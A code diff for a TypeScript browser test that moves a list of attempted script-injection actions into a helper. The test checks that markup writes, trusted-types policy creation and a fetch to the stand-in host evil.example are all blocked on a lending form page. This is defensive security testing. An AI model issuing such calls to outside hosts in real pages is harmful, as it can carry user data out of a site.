@@ -1,6 +1,7 @@
 import type { Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { priceScript } from '#src/pages/lending/price.js.ts'
+import { triedOn } from '#test/hostile/tried-on.ts'
 import { attempts, confession, hostileText } from '#test/hostile/hostile-words.ts'
 import {
   type Seen,
@@ -128,25 +129,13 @@ test('a script that got into that form can make no mark-up, no policy and no way
   const visitor = await visitorAs(seen, 'record-keeper')
   const page = await visitor.newPage()
   await page.goto(`${seen.url}${form()}`)
-  const tried = await page.evaluate(async () => {
-    const tries: (() => unknown)[] = [
-      () => (document.body.innerHTML = '<b>x</b>'),
-      () => document.write('<b>x</b>'),
-      () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
-      () => (window as unknown as WithTypes).trustedTypes.createPolicy('default', {}),
-      () => fetch('http://evil.example/'),
-    ]
-    return Promise.all(
-      tries.map(async (run) => {
-        try {
-          await run()
-          return 'went through'
-        } catch {
-          return 'stopped'
-        }
-      }),
-    )
-  })
+  const tried = await triedOn(page, [
+    () => (document.body.innerHTML = '<b>x</b>'),
+    () => document.write('<b>x</b>'),
+    () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
+    () => (window as unknown as WithTypes).trustedTypes.createPolicy('default', {}),
+    () => fetch('http://evil.example/'),
+  ])
   expect(tried).toEqual(tried.map(() => 'stopped'))
   expect(await page.evaluate(() => document.cookie)).toBe('')
   await visitor.close()
